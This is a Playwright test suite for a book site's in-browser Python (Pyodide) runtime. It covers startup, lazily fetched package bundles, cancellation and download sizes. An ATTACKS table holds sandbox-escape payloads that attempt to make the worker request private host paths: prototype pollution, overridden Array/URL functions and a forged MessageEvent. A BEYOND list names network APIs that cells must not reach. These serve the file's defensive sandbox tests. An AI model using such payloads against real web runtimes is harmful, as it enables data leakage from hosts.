"""The page's Python: how it starts, what it loads later, what it can reach, and how it ends."""

from __future__ import annotations

import json
from typing import Any

import pytest
from browser import note_elsewhere
from playwright.sync_api import Browser, Page, Route
from site_pages import ROOT

#: A runtime of its own for one test, and functions to watch it.
MAKE = """async ({ base, way }) => {
    const Runtime = (await pagePython()).constructor;
    const runtime = new Runtime({ base, page: "book/index", way });
    const seen = { states: [], progress: {} };
    runtime.addEventListener("state", () => seen.states.push(runtime.state));
    runtime.addEventListener("progress", ({ detail }) => (seen.progress[detail.what] = detail));
    globalThis.tried = { runtime, seen };
}"""
RUN = """async source => {
    const outputs = [];
    const done = await tried.runtime.run(source, { onOutput: output => outputs.push(output) });
    return { ok: done.ok, outputs };
}"""
#: What code in a page could speak to others with, or leave something behind in.
BEYOND = [
    *("fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "Request", "Response"),
    *("indexedDB", "caches", "BroadcastChannel", "FileReader", "Notification", "navigator", "location"),
    *("Worker", "SharedWorker", "importScripts", "close", "postMessage"),
]


@pytest.fixture(scope="module")
def tab(browser: Browser, address: str):
    """A page of the book; its visitor asks no other host for anything."""
    context = browser.new_context()
    asked = note_elsewhere(context)
    tab = context.new_page()
    tab.goto(f"{address}book/index.html")
    yield tab
    assert asked == []
    context.close()


@pytest.fixture
def start(tab: Page, address: str):
    """Start Python in the page, and end it after the test."""

    def begin(way: str = "quickest") -> str:
        tab.evaluate(MAKE, {"base": f"{address}_static/python/", "way": way})
        return tab.evaluate("tried.runtime.start()")

    yield begin
    tab.evaluate("tried.runtime.stop()")


def text(done: dict[str, Any]) -> str:
    assert done["ok"], done["outputs"]
    return "".join(one["text"] if "text" in one else one["data"]["text/plain"] for one in done["outputs"])


def loaded(tab: Page) -> dict[str, dict[str, int]]:
    return tab.evaluate("tried.seen.progress")


@pytest.mark.parametrize(("way", "how"), [("quickest", "snapshot"), ("plain", "plain")])
def test_python_starts_in_either_way_and_says_how_far_it_is(way, how, tab, start):
    assert start(way) == how
    assert text(tab.evaluate(RUN, "import pandas as pd\nprint(pd.Series([1, 2]).sum())")) == "3\n"
    assert tab.evaluate("tried.seen.states") == ["loading", "ready", "busy", "ready"]
    # The plain way imports pandas anew, and with it modules that nothing needs later.
    assert set(loaded(tab)) <= ({"python"} if how == "snapshot" else {"python", "more"})
    assert loaded(tab)["python"]["loaded"] == loaded(tab)["python"]["total"] > 1_000_000


def test_where_the_snapshot_does_not_fit_python_starts_in_the_plain_way(tab, start):
    def otherwise(route: Route) -> None:
        listed = json.loads(route.fetch().text())
        listed["snapshot"]["layout"] = "1 2"
        route.fulfill(json=listed)

    tab.context.route("**/python.json", otherwise)
    try:
        assert start() == "plain"
    finally:
        tab.context.unroute("**/python.json")
    assert text(tab.evaluate(RUN, "1 + 1")) == "2"


def test_the_snapshot_fits_a_browser_in_any_language(browser: Browser, address: str):
    context = browser.new_context(locale="ar-EG", timezone_id="Asia/Bishkek")
    other = context.new_page()
    other.goto(f"{address}book/index.html")
    other.evaluate(MAKE, {"base": f"{address}_static/python/", "way": "quickest"})
    assert other.evaluate("tried.runtime.start()") == "snapshot"
    context.close()


@pytest.mark.parametrize(
    ("source", "bundle"),
    [
        ("import matplotlib.pyplot as plt\nlen(plt.figure().axes)", "plots"),
        ("from scipy.optimize import brentq\nround(brentq(lambda x: x - 3, 0, 5))", "statistics"),
        ("import openpyxl, markdown_it\nlen(openpyxl.Workbook().sheetnames)", "files"),
        ("import wave, numpy.fft\nlen(numpy.fft.fft([1, 2]))", "more"),
    ],
)
def test_a_package_is_fetched_when_it_is_first_imported(source, bundle, tab, start):
    start()
    assert bundle not in loaded(tab)
    assert tab.evaluate(RUN, source)["ok"]
    assert loaded(tab)[bundle]["loaded"] == loaded(tab)[bundle]["total"] > 100_000
    everything = tab.evaluate("tried.runtime.size()")
    assert everything[bundle] == loaded(tab)[bundle]["total"]


def test_seaborn_draws_without_scipy(tab, start):
    start()
    assert tab.evaluate(RUN, "import seaborn")["ok"]
    assert "plots" in loaded(tab)
    assert "statistics" not in loaded(tab)


def test_what_is_in_no_bundle_is_not_there_and_nothing_is_fetched(tab, start):
    start()
    done = tab.evaluate(RUN, "import no_such_package")
    assert [one["ename"] for one in done["outputs"]] == ["ModuleNotFoundError"]
    assert list(loaded(tab)) == ["python"]


def test_code_in_the_page_reaches_nothing_beyond_its_worker(tab, start):
    start()
    source = f"import js\nprint([name for name in {BEYOND} if hasattr(js, name)])"
    assert text(tab.evaluate(RUN, source)) == "[]\n"
    asked = "import urllib.request\nurllib.request.urlopen('https://example.org/')"
    assert not tab.evaluate(RUN, asked)["ok"]
    through = "import js\njs.eval('import(\"https://example.org/a.js\").catch(() => 0)')"
    tab.evaluate(RUN, through)


#: What a cell can get hold of: the function that fetches bundles, and the objects that all JavaScript shares.
GRASP = """
import sys, js
from pyodide.ffi import create_proxy, to_js
def shared(value):
    return to_js(value, dict_converter=js.Object.fromEntries)
finder = [one for one in sys.meta_path if type(one).__name__ == "LaterPackages"][0]
later = finder._fetch.__closure__[0].cell_contents
"""
ATTACKS = {
    "an entry that all objects inherit": """
evil = {"paths": ["../../../private?leak=x"], "addresses": ["/private?leak=x"], "bytes": 1}
js.Object.prototype.evil = shared(evil)
later("evil")
""",
    "the prototype's own names": "later('__proto__')\nlater('constructor')\nlater('toString')",
    "addresses made by functions of arrays": """
js.Array.prototype.map = create_proxy(lambda *given: to_js(["/private?leak=x"]))
js.String.prototype.concat = create_proxy(lambda *given: "/private?leak=x")
js.URL = create_proxy(lambda *given: "/private?leak=x")
later("files")
later("evil")
""",
    "a message of its own making": """
js.self.URL = create_proxy(lambda *given: "/private?leak=x")
data = shared({"data": {"do": "start", "base": "/private?leak=x/", "page": "x", "way": "plain"}})
js.dispatchEvent(js.MessageEvent.new("message", data))
""",
    "Pyodide's own workings": "import pyodide_js\npyodide_js._module.FS\n",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_reads_nothing_of_the_books_host_but_bundles(attack, tab, start):
    start()
    asked: list[str] = []
    tab.context.on("request", lambda request: asked.append(request.url))
    done = tab.evaluate(RUN, GRASP + ATTACKS[attack])
    assert [one["output_type"] for one in done["outputs"]] == ["error"], done["outputs"]
    tab.wait_for_timeout(300)
    assert [url for url in asked if "/_static/python/" not in url] == []
    assert [url for url in asked if "private" in url or "?" in url or url.endswith("python.json")] == []
    assert text(tab.evaluate(RUN, "1 + 1")) == "2"


def test_all_that_a_cell_needs_still_runs(tab, start):
    start()
    source = """
import asyncio, time
async def wait():
    await asyncio.sleep(0.01)
    return "waited"
before = time.monotonic()
time.sleep(0.05)
print(time.monotonic() - before >= 0.05)
task = asyncio.ensure_future(wait())
"""
    assert text(tab.evaluate(RUN, source)) == "True\n"
    tab.wait_for_timeout(200)
    assert text(tab.evaluate(RUN, "print(task.result())")) == "waited\n"
    assert "sleep" in tab.evaluate("tried.runtime.complete('time.sl', 7)")["options"][0]["label"]


def test_an_event_says_unforgeably_whether_it_came_from_elsewhere(tab):
    own = "Object.getOwnPropertyDescriptor(new MessageEvent('message'), 'isTrusted').configurable"
    assert tab.evaluate(own) is False


def test_chance_is_not_frozen_with_the_memory(tab, start):
    source = "import random, numpy\nprint(random.random(), numpy.random.random())"
    draws = []
    for _ in range(2):
        start()
        draws += text(tab.evaluate(RUN, source)).split()
        tab.evaluate("tried.runtime.stop()")
    assert len(set(draws)) == 4


def test_loading_is_cancelled(tab, start, address):
    tab.evaluate(MAKE, {"base": f"{address}_static/python/", "way": "quickest"})
    said = tab.evaluate(
        """async () => {
            const refused = tried.runtime.start().then(() => "started", error => error.name);
            tried.runtime.cancel();
            return [await refused, tried.runtime.state];
        }"""
    )
    assert said == ["Stopped", "asleep"]
    assert tab.evaluate("tried.runtime.start()") == "snapshot"


def test_a_cell_that_runs_for_ever_is_stopped_and_python_starts_anew(tab, start):
    start()
    said = tab.evaluate(
        """async () => {
            const { runtime } = tried;
            let told = 0;
            runtime.addEventListener("stopped", () => (told += 1));
            await runtime.run("kept = 1");
            const refused = runtime.run("while True: pass").then(() => "done", error => error.name);
            while (runtime.state !== "busy") await new Promise(done => setTimeout(done, 10));
            runtime.stop();
            return [await refused, runtime.state, told];
        }"""
    )
    assert said == ["Stopped", "asleep", 1]
    done = tab.evaluate(RUN, "kept")
    assert [one["ename"] for one in done["outputs"]] == ["NameError"]


def test_a_missing_file_is_an_error_in_words(tab, start, address):
    tab.context.route("**/*.wasm.packed", lambda route: route.fulfill(status=404))
    try:
        tab.evaluate(MAKE, {"base": f"{address}_static/python/", "way": "plain"})
        said = tab.evaluate("tried.runtime.start().then(() => 'started', error => error.message)")
    finally:
        tab.context.unroute("**/*.wasm.packed")
    assert "did not come: 404" in said
    assert tab.evaluate("tried.runtime.state") == "broken"


def test_the_first_load_and_the_whole_stay_small(site, tab, start):
    start()
    sizes = tab.evaluate("tried.runtime.size()")
    assert sizes["start"] <= 25_000_000
    assert sum(path.stat().st_size for path in site.rglob("*") if path.is_file()) <= 90_000_000


def test_pages_say_what_python_weighs(site):
    """The figures in the text about Python in the page, and in the one for teachers."""
    sizes = json.loads((site / "_static/python/python.json").read_text("utf-8"))["sizes"]
    pages = json.loads((site / "_static/pages.json").read_text("utf-8"))["bytes"]
    about = " ".join((ROOT / "book/about/python-in-the-page.md").read_text("utf-8").split())
    assert f"{sizes['start'] / 1e6:.0f} megabytes for the first run" in about
    assert "up to 20 more when a cell draws a chart or needs statistics" in about
    assert sizes["plots"] + sizes["statistics"] == pytest.approx(20e6, rel=0.05)
    assert f"the pages of the book ({pages / 1e6:.0f} megabytes)" in about
    course = " ".join((ROOT / "book/teaching/running-a-course.md").read_text("utf-8").split())
    assert f"one download of {sizes['start'] / 1e6:.0f} MB, up to 45 MB" in course
    assert sum(sizes.values()) - sizes["files"] == pytest.approx(45e6, rel=0.05)
    assert f"the other pages of the book, {pages / 1e6:.0f} MB" in course
